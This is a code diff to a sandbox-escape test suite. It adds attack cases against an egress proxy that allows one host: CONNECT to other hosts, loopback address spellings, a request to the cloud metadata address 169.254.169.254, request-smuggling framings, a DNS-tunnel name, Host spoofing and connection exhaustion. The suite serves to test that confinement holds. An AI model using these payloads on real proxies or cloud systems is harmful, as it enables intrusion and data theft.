@@ -2,7 +2,8 @@
 
 Each script ends with 0 only if it got what it wanted, and otherwise says what stopped it, in a word. The place has what
 is worth stealing: a file outside, a secret file and a denied one in the workspace, variables of the environment,
-listeners on loopback and on sockets, a process to signal.
+listeners on loopback and on sockets, a process to signal. Attacks on the way to the network have consent to one host,
+an HTTP server on loopback that says which host it was asked for.
 """
 
 from __future__ import annotations
@@ -17,6 +18,7 @@ import threading
 from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import KW_ONLY, dataclass, field, replace
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 from reyn_jupyter.guard.sandbox import Confinement, Sandbox, SandboxLimits, SandboxResult
@@ -43,7 +45,18 @@ def call(number, *args):
     if result < 0:
         raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
     return result
+class Refused(Exception): pass
+def ask(words):
+    way = socket.create_connection(("127.0.0.1", 3128), 10)
+    way.sendall(words.replace("\\n", "\\r\\n").encode())
+    answer = b""
+    while piece := way.recv(65536):
+        answer += piece
+        if b"\\r\\n\\r\\n" in answer and b" 200 " in answer[:20] and words.startswith("CONNECT"): break
+    if b" 200 " not in answer[:20]: raise Refused
+    return answer.decode()
 def stopped(error):
+    if isinstance(error, Refused): return "refused by the proxy"
     code = getattr(error, "errno", None)
     return errno.errorcode.get(code, "") if code else type(error).__name__
 def attempt():
@@ -83,6 +96,7 @@ class Attack:
         damage: it is only a way out if something outside has changed afterwards, whatever the script could do in a
             view of its own.
         limits: in place of the usual ones.
+        online: it has consent to one host.
     """
 
     name: str
@@ -91,6 +105,7 @@ class Attack:
     _: KW_ONLY
     damage: bool = False
     limits: SandboxLimits = LIMITS
+    online: bool = False
 
 
 def _read(key: str) -> tuple[str, str]:
@@ -168,6 +183,42 @@ ATTACKS = (
            'await fetch("http://1.1.1.1/");'),
     Attack("ask for a name (DNS)", 'socket.getaddrinfo("example.org", 80)',
            'await Deno.resolveDns("example.org", "A");'),
+    Attack("one host allowed: CONNECT to another one", 'ask("CONNECT example.org:443 HTTP/1.1\\nHost: example.org\\n\\n")',
+           online=True),
+    Attack("one host allowed: another port of it",
+           'ask(f"CONNECT localhost:{place[\'port\']} HTTP/1.1\\nHost: localhost\\n\\n")', online=True),
+    Attack("one host allowed: its address, in seven spellings",
+           'for name in ("127.0.0.1", "127.1", "0x7f.1", "2130706433", "0", "[::1]", "[::ffff:127.0.0.1]"):\n'
+           '    try:\n        ask(f"CONNECT {name}:{place[\'allowed\']} HTTP/1.1\\nHost: x\\n\\n")\n        return\n'
+           '    except Refused as error: last = error\nraise last', online=True),
+    Attack("one host allowed: an address of the cloud's own data, by plain HTTP",
+           'ask("GET http://169.254.169.254/latest/ HTTP/1.1\\nHost: localhost\\n\\n")', online=True),
+    Attack("one host allowed: to it without the proxy",
+           'socket.create_connection(("127.0.0.1", place["allowed"]), 5)', online=True),
+    Attack("one host allowed: a datagram, a raw socket",
+           'try: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\nexcept OSError:\n'
+           '    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("1.1.1.1", 53))', online=True),
+    Attack("one host allowed: data in a name that has to be looked up (DNS tunnel)",
+           'ask(f"CONNECT loot.localhost:{place[\'allowed\']} HTTP/1.1\\nHost: localhost\\n\\n")', online=True),
+    Attack("one host allowed: another host in the Host field",
+           'said = ask(f"GET http://localhost:{place[\'allowed\']}/ HTTP/1.1\\nHost: inner.example\\n\\n")\n'
+           'if "inner.example" not in said: raise Refused', online=True),
+    Attack("one host allowed: a second request hidden in the first (smuggling)",
+           'head = f"POST http://localhost:{place[\'allowed\']}/ HTTP/1.1\\nHost: localhost\\n"\n'
+           'hidden = "GET /hidden HTTP/1.1\\nHost: inner.example\\n\\n"\n'
+           'framing = (f"Content-Length: {len(hidden) + 9}\\nTransfer-Encoding: chunked\\n\\n0\\n\\n{hidden}",\n'
+           '           f"Content-Length: 0\\nContent-Length: 60\\n\\n{hidden}",\n'
+           '           f"Transfer-Encoding : chunked\\n\\n0\\n\\n{hidden}", f"Content-Length: 0\\n\\n{hidden}")\n'
+           'for each in framing:\n    try: said = ask(head + each)\n    except Refused: continue\n'
+           '    if "hidden" in said or said.count("HTTP/1.") > 1: return\nraise Refused', online=True),
+    Attack("one host allowed: more connections than the proxy takes",
+           'def fill(): return [socket.create_connection(("127.0.0.1", 3128), 5) for _ in range(50)]\nheld = fill()\n'
+           'child = os.fork()\nif child == 0:\n    last = fill()[-1]\n    last.settimeout(5)\n'
+           '    try: last.recv(1)\n    except TimeoutError: os._exit(0)\n    except OSError: pass\n    os._exit(1)\n'
+           'if os.waitpid(child, 0)[1]: raise ConnectionResetError(errno.ECONNRESET, "")', online=True),
+    Attack("one host allowed: a descriptor of the proxy",
+           'for number in range(3, 64):\n    try: kind = os.readlink(f"/proc/self/fd/{number}")\n'
+           '    except OSError: continue\n    if "socket" in kind: return\nraise OSError(errno.EBADF, "")', online=True),
     Attack("import code from the internet", 'import urllib.request\nurllib.request.urlopen("http://1.1.1.1/", timeout=5)',
            'await import("https://esm.sh/left-pad" + "");'),
     Attack("open a raw or netlink socket", 'socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)'),
@@ -254,10 +305,10 @@ class Place:
             or outside.stat().st_mode & 0o777 != 0o600
         )
 
-    @property
-    def confinement(self) -> Confinement:
+    def confinement(self, attack: Attack) -> Confinement:
         scratch = self.workspace / "scratch"
-        return Confinement(self.workspace, (self.workspace,), (scratch,), self.hidden)
+        hosts = (f"localhost:{self.facts['allowed']}",) if attack.online else ()
+        return Confinement(self.workspace, (self.workspace,), (scratch,), self.hidden, hosts=hosts)
 
     def script(self, attack: Attack, language: str) -> list[str]:
         """Write the script of an attack and return its command."""
@@ -271,6 +322,25 @@ class Place:
         body = "\n".join("    " + line for line in attack.python.splitlines())
         path.write_text(HEAD.replace("{attempt}", body), encoding="utf-8")
         return [sys.executable, "-I", "-S", os.fspath(path), facts]
+
+
+class _Echo(BaseHTTPRequestHandler):
+    """Says which host and path it was asked for, and what came with that."""
+
+    protocol_version = "HTTP/1.1"
+
+    def do_GET(self) -> None:
+        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
+        said = f"{self.headers['Host']} {self.path} {len(body)}".encode()
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(said)))
+        self.end_headers()
+        self.wfile.write(said)
+
+    do_POST = do_GET  # noqa: N815 - as the server calls it
+
+    def log_message(self, *_: object) -> None:
+        """Write nothing."""
 
 
 @contextmanager
@@ -302,15 +372,18 @@ def attacked_place(folder: Path) -> Iterator[Place]:
     abstract = f"reyn-attacked-{os.getpid()}-{folder.name}"
     with (
         socket.create_server(("127.0.0.1", 0)) as server,
+        ThreadingHTTPServer(("127.0.0.1", 0), _Echo) as allowed,
         _listening("\0" + abstract),
         _short_socket(place.workspace) as path,
     ):
         threading.Thread(target=_accept, args=(server,), daemon=True).start()
+        threading.Thread(target=allowed.serve_forever, args=(0.05,), daemon=True).start()
         place.facts = {
             **{name: os.fspath(each) for name, each in paths.items()},
             "scratch": os.fspath(place.workspace / "scratch"),
             "kernel": kernel.pid,
             "port": server.getsockname()[1],
+            "allowed": allowed.server_address[1],
             "abstract": abstract,
             "socket": path,
             "descriptor": read,
@@ -320,6 +393,7 @@ def attacked_place(folder: Path) -> Iterator[Place]:
         try:
             yield place
         finally:
+            allowed.shutdown()
             kernel.kill()
             kernel.communicate()
             os.close(read)
@@ -373,7 +447,7 @@ async def attacked(sandbox: Sandbox, language: str, attack: Attack, place: Place
     limits = attack.limits
     if language == "typescript":  # V8 sets more aside than it uses
         limits = replace(limits, memory=1 << 30)
-    outcome = _outcome(await sandbox.run(argv, place.confinement, limits))
+    outcome = _outcome(await sandbox.run(argv, place.confinement(attack), limits))
     if attack.damage and not outcome.held and not place.is_damaged:
         return Outcome(True, "in its own view alone")
     return replace(outcome, held=outcome.held and not place.is_damaged)
